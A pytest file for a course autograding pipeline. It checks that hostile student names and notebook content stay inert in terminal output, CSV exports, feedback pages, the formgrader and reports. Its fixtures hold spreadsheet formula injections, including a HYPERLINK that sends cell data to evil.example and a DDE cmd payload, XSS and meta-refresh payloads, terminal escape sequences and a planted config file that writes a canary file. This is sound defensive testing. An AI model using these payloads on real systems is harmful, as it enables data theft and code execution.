"""Student-controlled text is data at every exit we write: the terminal, grades.csv, the pages of
the feedback, the formgrader, the class report and the similarity report, the grades sent back to
the LMS.

Names and ids come from the roster and the LMS download, messages and values from the students'
code. Each test sends hostile text through the real commands (`python -m grading.lms.intake`,
`python -m grading.grader.autograde`, `nbgrader export`, `python -m grading.grader.report`,
`python -m grading.lms.lms_export`) and checks what the instructor gets: no control byte printed,
every CSV row and column intact and formula-free, no script run in a page, the report always
written, the honest students graded and shown correctly.
"""
import contextlib
import csv
import json
import os
import re
import shutil
import sys
import urllib.error
import urllib.parse
import urllib.request
import zipfile
from pathlib import Path

import nbformat
import pytest

from browser_support import CHROMIUM, CHROMIUM_ARGS, JupyterLab, LOOPBACK
from commands import autograde, run

from grading.assignment import ASSIGNMENT, NOTEBOOKS
from grading.grader import course
from grading.lms.roster import STUDENT_ID
from grading.untrusted_text import for_page, for_plot, for_spreadsheet, for_terminal
from synthetic_class import synthetic
from synthetic_class.demo import CRASH

NB1, NB2 = NOTEBOOKS

ESC = "\x1b"
# What a terminal would act on: C0 controls but the newline, DEL, C1 controls, bidi overrides.
CONTROL = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u200b-\u200f]")

# alan's id is the longest the roster accepts (roster.STUDENT_ID): an id that passed intake must
# be graded like any other, not fail halfway (a path, a socket name or a column too short for it).
ALAN = ("alan.turing." * 6)[:64]   # 64 characters
# The roster as an LMS exports it (quoted as CSV requires): hostile names, plain ids.
ROSTER = [
    ["id", "first_name", "last_name", "email", "lms_id"],
    ["ada", '=HYPERLINK("http://evil.example/?"&A1,"Ada")', "Lovelace,\nmallory,100", "ada@example.org", "12345"],
    ["grace", f"Grace{ESC}[2K\nmallory  100", '"Hopper"', "@SUM(A1:A9)", "23456"],
    [ALAN, "Alan<img src=x onerror=\"window.pwned = 'roster name'\">", "<b>Turing</b>", "", "34567"],
]
HONEST = {"ada": 100, "grace": 100, ALAN: 0}   # alan hands in the blank release
# ... whose gradient_check raises a message of markup, which his diagnosis quotes.
RAISES_MARKUP = ("def gradient_check(x, theta, epsilon=1e-7, print_msg=False):\n"
                 "    raise ValueError(\"<img src=x onerror=\\\"window.pwned = 'diagnosis'\\\">"
                 "<script>window.pwned = 'diagnosis script'</script>\")\n")
# A comment in grace's answer: her answer and ada's are alike, so the similarity page quotes it.
HOSTILE_COMMENT = ("# </pre></td></tr></table><script>window.pwned = 'similarity script'</script>"
                   "<img src=x onerror=\"window.pwned = 'similarity onerror'\">")


HOSTILE_MARKDOWN = ("My notes <script>window.pwned = 'markdown script'</script>\n\n"
                    "<img src=x onerror=\"window.pwned = 'markdown onerror'\">\n\n"
                    "<meta http-equiv=\"refresh\" content=\"0; url=https://evil.example/\">")
HOSTILE_CODE = ("from IPython.display import HTML, Javascript, display\n"
                "display(HTML(\"<b id='kept'>bold</b><script>window.pwned = 'html output'</script>"
                "<img src=x onerror=\\\"window.pwned = 'output onerror'\\\">\"))\n"
                "display(Javascript(\"window.pwned = 'javascript output'\"))\n"
                "print(\"<script>window.pwned = 'printed'</script>\")")


# A folder whose nbgrader_config.py writes a canary file: nbgrader's `/formgrader?path=FOLDER`
# would load it in the instructor's Jupyter server. A student's markdown asks for it by itself.
CANARY = "canary-formgrader-ran-a-students-config"


def plant_config(folder):
    planted = Path(folder) / "planted"
    planted.mkdir()
    (planted / "nbgrader_config.py").write_text(f"open({str(Path(folder) / CANARY)!r}, 'w').write('ran')\n")
    return planted


def with_hostile_cells(notebook, planted):
    """A copy of `notebook` with a markdown cell and a code cell of script added at its end."""
    notebook = nbformat.from_dict(json.loads(json.dumps(notebook)))
    requests = f'\n\n<img src="/formgrader?path={planted}"> [the same, as a link](/formgrader?path={planted})'
    notebook.cells += [nbformat.v4.new_markdown_cell(HOSTILE_MARKDOWN + requests),
                       nbformat.v4.new_code_cell(HOSTILE_CODE)]
    return notebook


@contextlib.contextmanager
def chromium_page():
    """A page of Debian's headless Chromium, and the list of the dialogs anything on it opened."""
    if not CHROMIUM.exists():
        pytest.fail(f"{CHROMIUM} is missing: apt-get install chromium")
    from playwright.sync_api import sync_playwright
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS, headless=True)
        try:
            page = browser.new_page()
            dialogs = []
            page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
            yield page, dialogs
        finally:
            browser.close()


def printed_controls(text):
    return sorted({hex(ord(c)) for c in CONTROL.findall(text)})


@pytest.fixture(scope="module")
def graded(new_course, tmp_path_factory):
    """A class taken in through intake with hostile names and notebook content, and alan's id as
    long as ids go, then graded by the real commands."""
    folder = tmp_path_factory.mktemp("student_text")
    root = new_course("student_text")
    roster = folder / "roster.csv"
    with open(roster, "w", newline="") as handle:
        csv.writer(handle).writerows(ROSTER)
    assert len(ALAN) == 64 and not STUDENT_ID.fullmatch(ALAN + "x"), "the longest id intake accepts"
    solved, blank = synthetic.submission(), synthetic.submission({"gradient_check": RAISES_MARKUP}, complete=False)
    commented = synthetic.solutions()["gradient_check"] + "\n" + HOSTILE_COMMENT
    graces = with_hostile_cells(synthetic.submission({"gradient_check": commented})[NB1], plant_config(folder))
    members = {
        "lovelaceada_12345_678901_1_gradient_checking_1d.ipynb": solved[NB1],
        "lovelaceada_12345_678901_2_gradient_checking_nd.ipynb": solved[NB2],
        "hoppergrace_23456_678902_1_gradient_checking_1d.ipynb": graces,
        "hoppergrace_23456_678902_2_gradient_checking_nd.ipynb": solved[NB2],
        "turingalan_34567_678903_1_gradient_checking_1d.ipynb": blank[NB1],
        "turingalan_34567_678903_2_gradient_checking_nd.ipynb": blank[NB2],
        # Not on the roster; the display name part carries an escape sequence and a bidi override.
        f"evil{ESC}]0;owned{ESC}\\\u202emallory_99999_678904_1_gradient_checking_1d.ipynb": solved[NB1],
    }
    # She sends a configuration file too; intake does not collect it.
    members["hoppergrace_23456_678902_nbgrader_config.py"] = f"open({str(folder / CANARY)!r}, 'w')\n"
    zip_path = folder / "submissions.zip"
    with zipfile.ZipFile(zip_path, "w") as archive:
        for name, notebook in members.items():
            archive.writestr(name, notebook if isinstance(notebook, str) else json.dumps(notebook))
    intake = run(sys.executable, "-m", "grading.lms.intake", str(zip_path), "--roster", str(roster), "--root", str(root))
    assert intake.returncode == 0, intake.stderr
    graded = autograde(root, "--workers", "2")
    return root, intake, graded, folder


def test_the_intake_summary_prints_no_control_character(graded):
    root, intake, _, _ = graded
    assert "not on the roster: LMS id 99999" in intake.stdout
    assert printed_controls(intake.stdout + intake.stderr) == []
    assert "\\x1b]0;owned" in intake.stdout, "the escape is shown, as an escape"
    assert "nbgrader reserves the name nbgrader_config.py: grace's" in intake.stdout
    assert not (root / "submitted" / "grace" / ASSIGNMENT / "nbgrader_config.py").exists()


def test_grades_csv_keeps_every_row_and_column_and_runs_no_formula(graded):
    root, _, grading, _ = graded
    assert grading.returncode == 0, grading.stdout + grading.stderr
    stock_export = run(os.path.join(os.path.dirname(sys.executable), "nbgrader"), "export",
                       "--to", "exported.csv", cwd=root)
    assert stock_export.returncode == 0, stock_export.stderr
    for name in ("grades.csv", "exported.csv"):
        with open(root / name, newline="") as handle:
            rows = list(csv.reader(handle))
        header, body = rows[0], rows[1:]
        assert all(len(row) == len(header) for row in body), f"{name}: a row with columns added or lost"
        by_id = {row[header.index("student_id")]: dict(zip(header, row)) for row in body}
        assert {s: float(row["score"]) for s, row in by_id.items()} == HONEST, name
        names = {s: (row["first_name"], row["last_name"], row["email"]) for s, row in by_id.items()}
        assert names["ada"] == ("'" + ROSTER[1][1], ROSTER[1][2], ROSTER[1][3])
        assert names["grace"] == (ROSTER[2][1], ROSTER[2][2], "'" + ROSTER[2][3])
        for row in body:
            assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row), f"{name}: a formula in {row}"


def test_the_grading_table_prints_no_control_character(graded):
    _, _, grading, _ = graded
    assert printed_controls(grading.stdout + grading.stderr) == []
    table = {line.split()[0]: line.split()[7] for line in grading.stdout.splitlines()
             if line.split() and line.split()[0] in HONEST}
    assert {s: float(total) for s, total in table.items()} == HONEST


def test_a_student_id_with_escape_sequences_is_printed_as_escapes(new_course):
    """A folder in submitted/ named by someone with shell access to it is shown, not obeyed."""
    root = new_course("escape_id")
    # A crash gets the student flagged, so the progress line names them too.
    course.add_submission(root, f"mallory{ESC}[1A{ESC}[2K", synthetic.submission({"gradient_check_by_parameter": CRASH}))
    grading = autograde(root, "--workers", "1", "--no-feedback", quiet=False)   # not --quiet: the progress lines name the student too
    assert printed_controls(grading.stdout + grading.stderr) == []
    assert "mallory\\x1b[1A\\x1b[2K" in grading.stdout
    assert "mallory\\x1b[1A\\x1b[2K: FLAGGED" in grading.stdout + grading.stderr, "the progress line"


def test_the_class_report_is_written_whatever_a_diagnosis_says(new_course):
    """A diagnosis quotes what the student's code raised or returned; mathtext would parse a `$`."""
    root = new_course("report_text")
    results = [{"student": s, "scores": {}, "flags": [], "problems": [],
                "diagnoses": {"gradient_check": message}}
               for s, message in [("a", r"raised ValueError: $\frac{1}{$"), ("b", "returned '$x^{$'"),
                                  ("c", f"printed {ESC}[31m<script>alert(1)</script>")]]
    (root / "reports").mkdir()
    (root / "reports" / "autograde.json").write_text(json.dumps(results))
    report = run(sys.executable, "-m", "grading.grader.report", "--root", str(root))
    assert report.returncode == 0, report.stderr
    assert (root / "reports" / "mistakes.png").read_bytes().startswith(b"\x89PNG")
    page = (root / "reports" / "class_report.html").read_text()
    assert "<script>" not in page and "&lt;script&gt;" in page


def test_no_script_a_student_wrote_runs_in_their_feedback_page(graded):
    """grace added markdown and outputs full of script to a complete notebook: her feedback page,
    opened in Chromium, runs none of it, shows her text, and still says 100."""
    root, _, _, _ = graded
    page_path = root / "feedback" / "grace" / ASSIGNMENT / NB1.replace(".ipynb", ".html")
    html = page_path.read_text()
    assert "Content-Security-Policy" in html and "My notes" in html
    with chromium_page() as (page, dialogs):
        page.goto(page_path.as_uri())
        page.wait_for_load_state("load")
        page.wait_for_timeout(500)   # an onerror handler runs once its image has failed
        assert page.evaluate("() => window.pwned") is None
        assert dialogs == [] and page.url == page_path.as_uri()
        assert "My notes" in page.inner_text("body") and page.inner_text("#kept") == "bold"
        score, out_of = re.search(r"Score: ([\d.]+) / ([\d.]+)", page.inner_text("h4")).groups()
        assert float(score) == float(out_of) > 0, "grace's notebook keeps its full score"

        # alan's diagnosis quotes the markup his code raised: shown, not run
        alans = root / "feedback" / ALAN / ASSIGNMENT / NB1.replace(".ipynb", ".html")
        page.goto(alans.as_uri())
        page.wait_for_load_state("load")
        page.wait_for_timeout(500)
        assert page.evaluate("() => window.pwned") is None
        assert "window.pwned = 'diagnosis script'" in page.inner_text("body")
        assert dialogs == [] and page.url == alans.as_uri()


def test_no_script_a_student_wrote_runs_in_the_formgrader(graded, tmp_path):
    """The instructor's formgrader, served by the course's own Jupyter, opened in Chromium: the
    students' list (a roster name with markup), grace's grading pages (her markdown and outputs of
    script) and a link a student could send, with script in the assignment's place, run none of
    it; the names and her notes show as text, her scores as graded. Her markdown's image and link
    to `/formgrader?path=` (which would load and run a planted nbgrader_config.py in the server) are
    not requested, and asked for directly the formgrader refuses."""
    root, _, _, folder = graded
    config = (root / "nbgrader_config.py").read_bytes()
    lab = JupyterLab(root, tmp_path / "home", tmp_path / "lab.log").start()
    try:
        def url(path):
            return f"http://127.0.0.1:{lab.port}/formgrader/{path}?token={lab.token}"

        def submissions(student):
            with LOOPBACK.open(url(f"api/student_notebook_submissions/{student}/{ASSIGNMENT}")) as response:
                return json.load(response)

        graces = submissions("grace")
        assert sorted(s["score"] for s in graces) == [30.0, 70.0]
        reflected = 'x";window.pwned="reflected link";"'
        pages = ["manage_students", f"manage_students/grace/{ASSIGNMENT}",
                 "manage_submissions/" + urllib.parse.quote(reflected),
                 *(f"submissions/{s['id']}/" for s in graces),
                 *(f"submissions/{s['id']}/" for s in submissions(ALAN))]   # his diagnosis quotes markup
        with chromium_page() as (page, dialogs):
            shown = {}
            for path in pages:
                page.goto(url(path))
                page.wait_for_load_state("networkidle")
                page.wait_for_timeout(300)   # an onerror handler runs once its image has failed
                assert page.evaluate("() => window.pwned") is None, path
                assert page.url.startswith(f"http://127.0.0.1:{lab.port}/"), f"{path} led to {page.url}"
                shown[path] = page.inner_text("body")
                link = page.get_by_text("the same, as a link")
                if link.count():
                    link.click()
                    page.wait_for_timeout(500)
            assert dialogs == []
        assert "<b>Turing</b>, Alan<img src=x" in shown["manage_students"], "the roster name, as text"
        grading_pages = "".join(shown[p] for p in pages[3:5])
        assert "My notes <script>" in grading_pages and "the same, as a link" in grading_pages
        assert "Gradient Checking, Part 1" in grading_pages
        with pytest.raises(urllib.error.HTTPError) as refused:
            LOOPBACK.open(f"http://127.0.0.1:{lab.port}/formgrader?path={folder / 'planted'}&token={lab.token}")
        assert refused.value.code == 403
        # The formgrader's Autograde button would regrade with stock nbgrader, outside the sandbox
        # and the verification: it is answered with a sentence, and grace's graded copy is kept.
        graded_copy = {p: p.read_bytes() for p in (root / "autograded" / "grace").rglob("*") if p.is_file()}
        request = urllib.request.Request(url(f"api/submission/{ASSIGNMENT}/grace/autograde"), data=b"", method="POST")
        with LOOPBACK.open(request) as response:
            answer = json.load(response)
        assert answer["success"] is False and "make autograde" in answer["error"]
        assert {p: p.read_bytes() for p in (root / "autograded" / "grace").rglob("*") if p.is_file()} == graded_copy
        # Its "release all feedback" button follows make release-feedback's rule (flagged ones wait);
        # this class came from an LMS download, so nothing can go through the exchange, and it says so.
        request = urllib.request.Request(url(f"api/assignment/{ASSIGNMENT}/release_feedback"), data=b"", method="POST")
        with LOOPBACK.open(request) as response:
            answer = json.load(response)
        assert answer["success"] is True and "not submitted through the exchange" in answer["log"], answer
    finally:
        lab.stop()
    assert not (folder / CANARY).exists(), "the formgrader ran a student's configuration"
    assert (root / "nbgrader_config.py").read_bytes() == config


def test_no_script_a_student_wrote_runs_in_the_class_report_or_the_similarity_page(graded):
    """The class report and the similarity page that `make autograde` wrote, opened in Chromium:
    the roster names with markup, alan's diagnosis (quoting the markup his code raised) and grace's
    answer (a comment that closes the page's tags and opens a script) run nothing, open nothing and
    load nothing. They show as the text they are, with every student's total."""
    root, _, _, _ = graded
    reports = root / "reports"
    report, similar = reports / "class_report.html", reports / "similarity.html"
    # All the pages may load: themselves and the report's plots. A name's <img src=x>, were it
    # markup, would ask for reports/x.
    allowed = {report.as_uri(), similar.as_uri(), *(p.as_uri() for p in reports.glob("*.png"))}
    with chromium_page() as (page, dialogs):
        requested = []
        page.on("request", lambda request: requested.append(request.url))

        def shown(path):
            page.goto(path.as_uri())
            page.wait_for_load_state("load")
            page.wait_for_timeout(500)   # an onerror handler runs once its image has failed
            assert page.evaluate("() => window.pwned") is None, path.name
            assert page.url == path.as_uri(), f"{path.name} led to {page.url}"
            return page.inner_text("body")

        text = shown(report)
        # The last table: every student, their name, scores, total and main reason.
        table = page.evaluate("() => [...[...document.querySelectorAll('table')].at(-1).rows]"
                              ".map(row => [...row.cells].map(cell => cell.innerText))")
        header, rows = table[0], {row[0]: row for row in table[1:]}
        assert {s: float(row[header.index("total")]) for s, row in rows.items()} == HONEST
        for student, first, last, *_ in ROSTER[1:]:   # as "Last, First"; the page folds line breaks
            assert rows[student][1].split() == f"{last}, {first}".split(), student
        assert "gradient_check raised ValueError: <img src=x onerror=" in text
        assert "<script>window.pwned = 'diagnosis script'</script>" in text

        text = shown(similar)
        assert "1. ada and grace: 100%" in text
        assert HOSTILE_COMMENT in text, "grace's comment, as text"
    assert dialogs == []
    assert set(requested) <= allowed, set(requested) - allowed


# The class's roster as Canvas's gradebook export, the file the grades go back to Canvas in (its SIS
# Login IDs are the class's ids): names and other cells hold commas, quotes, line breaks, formulas.
CANVAS_EXPORT = [
    ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "Gradient checking (4242)", "Notes"],
    ["    Points Possible", "", "", "", "", "100.00", ""],
    ['=HYPERLINK("http://evil.example/?"&A1,"Lovelace"), Ada\nmallory,100', "12345", "S001", "ada", "+GC 101", "",
     '-2+3+cmd|" /C calc"!A0'],
    ['"Hopper", Grace\r\n=1+1', "23456", "S002", "grace", "@SUM(A1:A9)", "", "\uff1dSUM(A1)"],
    ["Turing, Alan", "34567", "S003", ALAN, "-", "", "\tcmd"],
]
FORMULA_START = re.compile("[=+\\-@\t\r\n\uff1d\uff0b\uff0d\uff20]")


def starts_a_formula(cell):
    """What a spreadsheet or an LMS import would run: a cell starting with =, +, -, @ (or their
    full-width forms), a tab or a line break; a bare dash ("no value") aside."""
    return bool(FORMULA_START.match(cell)) and bool(cell.strip("-+ "))


def test_make_export_keeps_every_row_and_column_and_runs_no_formula(graded, tmp_path):
    """`python -m grading.lms.lms_export` on a copy of the graded class taken in again, the same
    notebooks with the class's Canvas export as the roster: canvas_grades.csv is Canvas's file, every
    row and column intact, no cell a formula, each student's grade in the assignment's column.
    (With the course's own roster the export writes ids, LMS ids and scores: no name.)"""
    root, _, _, folder = graded
    course = Path(shutil.copytree(root, tmp_path / "course", symlinks=True))   # the class stays as graded
    roster = tmp_path / "canvas_export.csv"
    with open(roster, "w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows(CANVAS_EXPORT)
    taken = run(sys.executable, "-m", "grading.lms.intake", str(folder / "submissions.zip"), "--roster", str(roster),
                "--root", str(course))
    assert taken.returncode == 0, taken.stdout + taken.stderr
    done = run(sys.executable, "-m", "grading.lms.lms_export", "--root", str(course),
               "--column", "Gradient checking (4242)")
    assert done.returncode == 0, done.stdout + done.stderr
    assert printed_controls(done.stdout + done.stderr) == []

    with open(course / "exports" / "canvas_grades.csv", newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    assert len(rows) == len(CANVAS_EXPORT) and all(len(row) == len(CANVAS_EXPORT[0]) for row in rows)
    assert rows[0] == CANVAS_EXPORT[0], "Canvas's own header"
    assert [row[5] for row in rows[1:]] == ["100.00", "100.00", "100.00", "0.00"]   # Points Possible, ada, grace, alan
    for row, sent in zip(rows, CANVAS_EXPORT):   # every other cell as sent, a ' before a formula
        assert row[:5] + row[6:] == [("'" + cell if starts_a_formula(cell) else cell) for cell in sent[:5] + sent[6:]]
    assert not [cell for row in rows for cell in row if starts_a_formula(cell)]


@pytest.mark.parametrize("text, shown", [
    ("plain text, ünïcødé", "plain text, ünïcødé"),
    (f"{ESC}[2K\rfake row", "\\x1b[2K\\x0dfake row"),
    ("two\nlines", "two\\x0alines"),
    ("\u202eevil\u2066", "\\u202eevil\\u2066"),
    ("zero\u200bwidth\x7f\x9b", "zero\\u200bwidth\\x7f\\x9b"),
])
def test_for_terminal_shows_every_control_as_an_escape(text, shown):
    assert for_terminal(text) == shown
    assert printed_controls(for_terminal(text)) == []


def test_for_page_keeps_no_link_or_image_to_the_pages_own_server():
    shown = for_page('<a href="/formgrader?path=/x">a</a> <a href="https://example.org/">b</a> <a href="#top">c</a>'
                     '<img src="/formgrader?path=/x"><img src="data:image/png;base64,AAAA" alt="d">'
                     '<a href=" JAVASCRIPT:alert(1)">e</a><img src=x onerror="f()">')
    assert shown == ('<a>a</a> <a href="https://example.org/">b</a> <a href="#top">c</a>'
                     '<img><img src="data:image/png;base64,AAAA" alt="d"><a>e</a><img>')


def test_for_terminal_keeps_newlines_only_when_asked():
    assert for_terminal("a\nb\rc", keep_newlines=True) == "a\nb\\x0dc"


@pytest.mark.parametrize("cell, safe", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
    ("\uff1d1+1", "'\uff1d1+1"), ("Ada", "Ada"), ("", ""), (3.5, 3.5), (None, None), ("a=b", "a=b"),
    ("-", "-"), ("--", "--"), ("- 1", "'- 1"),
])
def test_for_spreadsheet_neutralizes_formulas_only(cell, safe):
    assert for_spreadsheet(cell) == safe


def test_text_that_no_file_takes_is_made_encodable():
    """A lone surrogate (from a JSON escape, or a file name that is not UTF-8) becomes U+FFFD in
    every exit that writes text, and a visible escape in the terminal; a real pair is kept whole."""
    from grading.untrusted_text import encodable, encodable_data

    assert encodable("a\ud800b\udcff") == "a\ufffdb\ufffd" and encodable("\ud83d\ude00") == "\U0001f600"
    assert encodable_data({"k\ud800": [["\udc00", {"x": 1.5}]]}) == {"k\ufffd": [["\ufffd", {"x": 1.5}]]}
    deep = []
    for _ in range(5000):   # no recursion: as deep as json.loads goes, and deeper
        deep = [deep, "\ud800"]
    assert encodable_data(deep)[1] == "\ufffd"
    assert for_terminal("a\ud800") == "a\\ud800"
    assert for_spreadsheet("=\ud800") == "'=\ufffd"
    for text in (encodable("\ud800"), for_terminal("\ud800"), for_spreadsheet("\ud800")):
        text.encode("utf-8")


def test_for_plot_is_plain_text_for_matplotlib():
    import matplotlib
    matplotlib.use("Agg")
    import matplotlib.pyplot as plt
    fig, ax = plt.subplots()
    ax.set_title(for_plot(r"$\frac{1}{$ and $$ and \$"))
    fig.canvas.draw()      # mathtext would raise ValueError here
    plt.close(fig)
